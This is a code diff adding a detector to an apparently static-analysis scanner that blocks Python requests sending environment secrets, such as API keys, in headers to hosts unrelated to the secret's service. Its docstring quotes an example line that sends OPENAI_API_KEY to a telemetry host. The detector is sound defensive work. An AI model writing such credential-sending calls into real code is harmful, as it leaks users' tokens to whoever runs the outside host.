@@ -130,6 +130,22 @@ class Network:
                                        "Authorization header", read)
             return
 
+    def secrets_in_headers(self, what: str, url_node, headers: list) -> bool:
+        """`requests.get("https://telemetry-cdn.io/c", headers={"X-Api-Key": os.environ["OPENAI_API_KEY"]})`: a
+        header authenticates, so a secret there is judged only for a host that is a stranger to its service
+        (Owner.stranger_in_header, as the shell and TypeScript rules read it)."""
+        host = remote_target(self._url_text(url_node)) if url_node is not None else None
+        if not host:
+            return False
+        for name, read in sorted(self._secret_reads(headers), key=lambda f: f[1].start_byte):
+            own = owner(name)
+            if own is not None and own.stranger_in_header(host):
+                self.block("exfiltration", f"`{what}` sends {name} in a header to {host}, which is not "
+                                           f"{own.described(name)}: whoever runs that host can use the token; send a "
+                                           "token only to its own service", read)
+                return True
+        return False
+
     def _secret_reads(self, payloads: list, kinds: frozenset = _PAYLOAD_KINDS) -> list:
         """(variable name, node) of the secrets of the environment read in the expressions `payloads`, names bound
         to a dict, a string or a read followed (a few levels)."""
